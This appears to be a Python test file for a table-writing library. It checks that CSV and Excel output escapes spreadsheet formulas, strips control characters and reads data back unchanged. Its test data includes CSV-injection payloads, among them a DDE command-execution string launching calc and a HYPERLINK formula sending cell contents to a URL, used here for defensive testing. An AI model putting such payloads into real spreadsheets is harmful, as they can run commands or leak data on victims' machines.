"""No text of a table becomes a formula in what is written, and what was written is read back."""

import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fipscm.errors import FileError
from fipscm.tables.formula_cells import quoted, unquoted
from fipscm.tables.read import read_table
from fipscm.tables.write import csv_text, write_table

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
TEXTS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+a", "@SUM(A1)", "\tx", "\rx", "'=a", "+", "-", "plain", "-1,5", "#N/A"]
FRAME = pd.DataFrame({"=name": TEXTS, "dose": range(len(TEXTS)), "level": pd.Categorical(TEXTS)})


def cells_of(path):
    return [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]


def test_in_csv_a_formula_stands_behind_a_quote():
    lines = csv_text(FRAME).splitlines()
    assert lines[0] == "'=name,dose,level"
    assert all(not line.lstrip('"').startswith(("=", "@", "\t")) for line in lines)
    for text in ("+1+cmd", "-2+3", "@SUM", "=HYPERLINK"):
        assert f"'{text}" in csv_text(FRAME)


@given(st.text(st.sampled_from("=+-@\t\r\n'a1 .,"), max_size=8))
def test_what_a_quote_was_put_before_is_read_without_it(text):
    assert unquoted(quoted(text)) == text
    assert not quoted(text).startswith(("=", "@")) or not any(letter.isalnum() for letter in text)


def test_what_was_written_is_read_back(tmp_path):
    path = str(tmp_path / "t.csv")
    frame = pd.DataFrame({"=name": [FORMULA, "@b", "'=a", "it's"], "dose": [1.5, 2.5, 3.5, 4.5]})
    write_table(frame, path)
    pd.testing.assert_frame_equal(read_table(path), frame)


def test_in_excel_no_cell_is_a_formula(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(FRAME, str(path))
    cells = cells_of(path)
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert cells[3].value == FORMULA
    with zipfile.ZipFile(path) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_control_characters_are_left_out_of_excel(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(pd.DataFrame({"a\x01": ["x\x00y\x1fz", "line\nline"]}), str(path))
    assert [cell.value for cell in cells_of(path)] == ["a", "xyz", "line\nline"]


def test_a_text_that_excel_would_cut_is_told(tmp_path):
    with pytest.raises(FileError, match="a text has 40,000 characters, of which Excel holds 32,767"):
        write_table(pd.DataFrame({"a": ["x" * 40_000]}), str(tmp_path / "t.xlsx"))


def test_columns_of_parquet_that_mix_numbers_and_texts_are_texts(tmp_path):
    path = str(tmp_path / "t.parquet")
    mixed = pd.DataFrame({"note": [1, "two", None, 4.5], "dose": [1.0, 2.0, 3.0, 4.0]})
    write_table(mixed, path)
    found = read_table(path)
    assert found["note"].tolist()[:2] == ["1", "two"]
    assert found["note"].isna().tolist() == [False, False, True, False]
    assert found["dose"].tolist() == [1.0, 2.0, 3.0, 4.0]
